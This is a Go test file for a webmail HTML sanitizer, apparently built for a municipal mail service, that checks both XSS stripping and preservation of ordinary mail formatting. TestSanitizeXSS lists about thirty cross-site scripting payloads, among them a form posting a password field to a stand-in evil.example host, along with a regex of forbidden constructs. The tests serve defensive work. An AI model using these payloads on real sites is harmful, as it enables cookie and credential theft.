package webmail

import (
	"regexp"
	"strings"
	"testing"
)

// TestSanitizeXSS feeds real attack payloads through the mail policy.
func TestSanitizeXSS(t *testing.T) {
	s := newSanitizer()
	// Whatever the payload, none of these may survive.
	forbidden := regexp.MustCompile(`(?i)<script|<iframe|<frame|<object|<embed|<form|<input|<button|<textarea|<meta|<base|<link|<style|<svg|<math|\son[a-z]+\s*=|javascript:|vbscript:|expression\s*\(|url\s*\(|srcdoc|formaction|http-equiv`)
	cases := []struct {
		name, in string
		keep     string // a harmless part that must stay, "" for none
	}{
		{"script", `<p>Halo</p><script>alert(document.cookie)</script>`, "<p>Halo</p>"},
		{"script in attribute-less case", `<SCRIPT SRC=//evil.example/x.js></SCRIPT>ok`, "ok"},
		{"img onerror", `<img src=x onerror="alert(1)">`, ""},
		{"img onerror data", `<img src="data:image/png;base64,iVBORw0KGgo=" onerror=alert(1)>`, `src="data:image/png;base64,iVBORw0KGgo="`},
		{"javascript href", `<a href="javascript:alert(1)">klik</a>`, "klik"},
		{"javascript href entity", `<a href="jav&#x09;ascript:alert(1)">klik</a>`, "klik"},
		{"javascript href case", `<a href=" JaVaScRiPt:alert(1)">klik</a>`, "klik"},
		{"vbscript href", `<a href="vbscript:msgbox(1)">x</a>`, "x"},
		{"svg onload", `<svg onload=alert(1)><circle r=5></circle></svg>teks`, "teks"},
		{"svg script", `<svg><script>alert(1)</script></svg>`, ""},
		{"style expression", `<div style="width: expression(alert(1)); color: red">x</div>`, "color: red"},
		{"style url", `<div style="background-image: url(javascript:alert(1))">x</div>`, "x"},
		{"style behavior", `<div style="behavior: url(x.htc); -moz-binding: url(x.xml#xss)">x</div>`, "x"},
		{"style element", `<style>body{background:url(https://tracker.example/p.gif)}</style><p>isi</p>`, "<p>isi</p>"},
		{"iframe", `<iframe src="https://evil.example"></iframe>sisa`, "sisa"},
		{"iframe srcdoc", `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, ""},
		{"form", `<form action="https://evil.example/steal"><input name=password><button formaction="javascript:alert(1)">Kirim</button></form>`, "Kirim"},
		{"meta refresh", `<meta http-equiv="refresh" content="0;url=https://evil.example">teks`, "teks"},
		{"base", `<base href="https://evil.example/"><a href="/x">x</a>`, "x"},
		{"link stylesheet", `<link rel=stylesheet href=https://evil.example/x.css>teks`, "teks"},
		{"object embed", `<object data="x.swf"></object><embed src="x.swf">teks`, "teks"},
		{"math", `<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">klik</maction></math>`, "klik"},
		{"event on body", `<body onload="alert(1)">halo</body>`, "halo"},
		{"event on table", `<table onmouseover="alert(1)"><tr><td>sel</td></tr></table>`, "sel"},
		{"data html href", `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`, "x"},
		{"nested quotes", `<img src="x" alt="\"><script>alert(1)</script>">`, ""},
		{"broken markup", `<<script>alert(1);//<</script>`, ""},
		{"comment trick", `<!--<img src="--><img src=x onerror=alert(1)//">`, ""},
		{"noscript trick", `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, ""},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			out := string(s.Sanitize(tc.in, nil).HTML)
			if m := forbidden.FindString(out); m != "" {
				t.Errorf("%q survived in %q", m, out)
			}
			if tc.keep != "" && !strings.Contains(out, tc.keep) {
				t.Errorf("lost %q: %q", tc.keep, out)
			}
		})
	}
}

// TestSanitizeMail checks what real mail needs keeps working.
func TestSanitizeMail(t *testing.T) {
	s := newSanitizer()
	in := `<html><head><title>Undangan</title></head><body>
<table width="600" cellpadding="4" bgcolor="#ffffff" style="border-collapse: collapse"><tr><td align="center" valign="top" style="color: #333; font-size: 14px; padding: 8px">
<font face="Arial" color="red" size="2">Rapat koordinasi</font>
<p style="text-align: justify; margin: 0 0 8px">Yth. Bapak/Ibu, <a href="https://pematangsiantar.go.id/agenda">lihat agenda</a>
dan <a href="mailto:diskominfo@pematangsiantar.go.id">balas</a>.</p>
<img src="https://tracker.example/open.gif" width="1" height="1">
<img src="http://cdn.example/logo.png" alt="Logo">
<img src="cid:logo@kota" alt="Lambang">
<img src="cid:missing@kota" alt="Hilang">
</td></tr></table></body></html>`
	res := s.Sanitize(in, map[string]string{"logo@kota": "data:image/png;base64,iVBORw0KGgo="})
	out := string(res.HTML)
	for _, want := range []string{
		`<table width="600" cellpadding="4" bgcolor="#ffffff"`,
		`style="border-collapse: collapse"`,
		`align="center"`,
		`<font face="Arial" color="red" size="2">`,
		`text-align: justify`,
		`<a href="https://pematangsiantar.go.id/agenda" target="_blank" rel="noopener noreferrer">`,
		`href="mailto:diskominfo@pematangsiantar.go.id"`,
		`<img src="data:image/png;base64,iVBORw0KGgo=" alt="Lambang">`,
		`alt="Logo"`,
	} {
		if !strings.Contains(out, want) {
			t.Errorf("missing %q in\n%s", want, out)
		}
	}
	for _, bad := range []string{"tracker.example", "cdn.example", "cid:", "<title>", "Undangan"} {
		if strings.Contains(out, bad) {
			t.Errorf("%q should be gone:\n%s", bad, out)
		}
	}
	if res.RemoteBlocked != 2 {
		t.Errorf("RemoteBlocked = %d, want 2", res.RemoteBlocked)
	}
	if got := s.Sanitize(`<p>tanpa gambar</p>`, nil).RemoteBlocked; got != 0 {
		t.Errorf("RemoteBlocked = %d for a body without images", got)
	}
	// Protocol-relative sources are relative URLs to bluemonday, which
	// drops them itself (without our counting them).
	if got := s.Sanitize(`<img src="//cdn.example/x.png">`, nil).HTML; strings.Contains(string(got), "cdn.example") {
		t.Errorf("protocol-relative image kept: %s", got)
	}
}

func TestLinkify(t *testing.T) {
	segs := linkify("Lihat https://pematangsiantar.go.id/berita?id=5, lalu http://x.id.\n<b>bukan tag</b> javascript:alert(1)")
	var links []string
	var text strings.Builder
	for _, s := range segs {
		text.WriteString(s.Text)
		if s.URL != "" {
			links = append(links, s.URL)
		}
	}
	want := []string{"https://pematangsiantar.go.id/berita?id=5", "http://x.id"}
	if strings.Join(links, " ") != strings.Join(want, " ") {
		t.Errorf("links = %q, want %q", links, want)
	}
	if !strings.Contains(text.String(), "<b>bukan tag</b>") {
		t.Errorf("text changed: %q", text.String())
	}
}
